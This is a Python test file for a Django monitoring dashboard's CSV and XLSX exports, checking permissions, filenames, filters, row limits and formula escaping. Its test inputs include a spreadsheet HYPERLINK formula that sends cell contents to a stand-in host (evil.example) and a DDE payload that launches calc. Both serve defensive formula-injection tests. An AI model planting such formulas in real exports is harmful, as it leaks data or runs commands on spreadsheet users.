"""Exports: the filtered rows, all columns, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.http import HttpResponse
from django.test import Client
from openpyxl import load_workbook

from monitoring.models import RunEntityCopy
from monitoring.summary.tables import MatrixTable
from monitoring.web import export, sheets
from monitoring.web.sheets import MEDIA_TYPES, PIECES, harmless
from tests import factories
from tests.conftest import ROLES

Clients = Callable[[str], Client]
MATRIX, FAILURES = "/summary/pipelines", "/summary/failures"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _csv(answer: HttpResponse) -> list[dict[str, str]]:
    assert answer.status_code == 200
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(StringIO(answer.content.decode("utf-8-sig"))))


def _xlsx(answer: HttpResponse) -> list[tuple[Any, ...]]:
    assert answer.status_code == 200
    sheet = load_workbook(BytesIO(answer.content)).active
    assert sheet is not None
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("path", [f"{MATRIX}.csv", f"{MATRIX}.xlsx", f"{FAILURES}.csv", f"{FAILURES}.xlsx"])
def test_who_may_export(client_as: Clients, snapshot_stored: Any, path: str, role: str) -> None:
    snapshot_stored(factories.troubled_snapshot())
    answer = client_as(role).get(path)
    assert answer.status_code == 200
    assert answer["Cache-Control"] == "private, no-store"
    assert client_as("").get(path).status_code == 302


def test_the_matrix_as_csv(client_as: Clients, snapshot_stored: Any) -> None:
    snapshot_stored(factories.troubled_snapshot())
    answer = client_as("viewer").get(f"{MATRIX}.csv")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="pipelines-20240515T120000Z.csv"'
    rows = {row["Pipeline"]: row for row in _csv(answer)}
    assert len(rows) == 7
    assert len(rows["dim_cliente"]) == len(MatrixTable.base_columns)
    assert rows["dim_cliente"]["Source rows (rows)"] == "1000"
    assert rows["dim_cliente"]["Last started (UTC)"] == "2024-05-15T11:54:30Z"
    assert rows["fact_vendas"]["Served lag (s)"] == "11520.0"
    assert rows["dim_regiao"]["Eligible (rows)"].startswith("unknown: ")
    assert not any("<" in value for row in rows.values() for value in row.values())
    assert all(
        value.strip()
        for name, row in rows.items()
        for key, value in row.items()
        if key not in {"Last error", "Could not be read"}
    )


def test_a_file_of_old_figures_is_called_after_their_time(client_as: Clients, snapshot_stored: Any) -> None:
    """A CSV has no place for a remark that a reader of it would not stumble over: its name has the time."""
    snapshot_stored(factories.unreachable_snapshot())
    answer = client_as("viewer").get(f"{MATRIX}.csv")
    assert answer["Content-Disposition"] == 'attachment; filename="pipelines-20240515T110000Z.csv"'


def test_the_matrix_as_xlsx_has_numbers_and_times(client_as: Clients, snapshot_stored: Any) -> None:
    snapshot_stored(factories.snapshot())
    header, row = _xlsx(client_as("viewer").get(f"{MATRIX}.xlsx"))
    values = dict(zip(header, row, strict=True))
    assert values["Source rows (rows)"] == 1000
    assert values["Coverage (%)"] == 99
    assert values["Last finished (UTC)"] == datetime(2024, 5, 15, 11, 55)  # noqa: DTZ001


def test_filters_and_order_go_along(client_as: Clients, snapshot_stored: Any) -> None:
    snapshot_stored(factories.troubled_snapshot())
    client = client_as("viewer")
    rows = _csv(client.get(f"{MATRIX}.csv?show=active&q=dim_&sort=-name"))
    names = [row["Pipeline"] for row in rows]
    assert names == sorted(names, reverse=True)
    assert "dim_desconto" not in names
    assert names[0] == "fact_vendas"  # its table's name holds the text
    page = client.get("/?show=active&q=dim_&sort=-name").content.decode()
    assert f"{MATRIX}.csv?show=active&amp;q=dim_&amp;sort=-name" in page


def test_a_file_of_another_kind_does_not_exist(client_as: Clients, snapshot_stored: Any) -> None:
    snapshot_stored(factories.snapshot())
    for kind in ("pdf", "csv.exe", "x" * 300):
        assert client_as("viewer").get(f"{MATRIX}.{kind}").status_code == 404


def test_before_the_first_sample_the_file_has_its_header(client_as: Clients) -> None:
    assert _csv(client_as("viewer").get(f"{MATRIX}.csv")) == []


def test_a_formula_stays_text(client_as: Clients, snapshot_stored: Any) -> None:
    evil = factories.failed_pipeline(EVIL[:100], newest=factories.execution(status="failed", error_message=EVIL))
    snapshot_stored(factories.snapshot(evil))
    client = client_as("viewer")
    (row,) = _csv(client.get(f"{MATRIX}.csv"))
    assert (row["Pipeline"], row["Last error"]) == (f"'{EVIL[:100]}", f"'{EVIL}")
    sheet = load_workbook(BytesIO(client.get(f"{MATRIX}.xlsx").content)).active
    assert sheet is not None
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert sheet["A2"].value == f"'{EVIL[:100]}"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r\n=", " =", "＝", "\x00=", "\n@"])
def test_whatever_starts_like_a_formula_is_made_harmless(start: str) -> None:
    made = harmless(f"{start}cmd|'/c calc'!A0")
    assert isinstance(made, str)
    assert made.startswith("'")
    assert "\x00" not in made


@pytest.mark.parametrize("value", [None, True, -5, -1.5, "plain", "a=b", "2024-01-01", "ção", ""])
def test_harmless_values_stay_as_they_are(value: Any) -> None:
    assert harmless(value) == value


def test_times_become_naive_utc() -> None:
    made = harmless(datetime(2024, 1, 1, 12, tzinfo=UTC))
    assert made == datetime(2024, 1, 1, 12)  # noqa: DTZ001


def test_a_file_that_is_cut_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    from monitoring.web.readings import pipeline_readings

    monkeypatch.setattr(sheets, "MAX_ROWS", 2)
    table = MatrixTable(pipeline_readings(factories.troubled_snapshot()))
    for kind in MEDIA_TYPES:
        text = b"".join(PIECES[kind](export.table_sheet(table, "x")))
        if kind == "xlsx":
            rows = [tuple(cell.value for cell in row) for row in load_workbook(BytesIO(text)).active.iter_rows()]
            assert len(rows) == 4
            assert "limited to 2 rows" in rows[3][0]
        else:
            assert len(text.decode().splitlines()) == (4 if kind == "csv" else 3)
            assert "limited to 2 rows" in text.decode().splitlines()[-1]


def test_failures_have_meaning_advice_and_the_whole_message(client_as: Clients, snapshot_stored: Any) -> None:
    snapshot_stored(factories.snapshot())
    for number in range(12):
        RunEntityCopy.objects.create(
            run_entity_id=number,
            run_id=number,
            entity_name="dim_cliente",
            status="failed",
            extracted=0,
            upserted=0,
            soft_deleted=0,
            started_at=factories.ago(hours=number + 1),
            error_message=factories.UNIQUE_ERROR,
            finished_at=factories.ago(hours=number + 1) + timedelta(seconds=5),
        )
    rows = _csv(client_as("viewer").get(f"{FAILURES}.csv"))
    assert len(rows) == 12  # not only the ones that the page has room for
    assert rows[0]["Failed at (UTC)"] == "2024-05-15T11:00:05Z"
    assert rows[0]["Message"] == factories.UNIQUE_ERROR
    assert rows[0]["Meaning"].startswith("A row arrived twice")
    assert rows[0]["What to do"].startswith("Find the key")
    assert rows[0]["Duration (s)"] == "5.0"
    assert _csv(client_as("viewer").get(f"{FAILURES}.csv?f-kind=deadlock")) == []
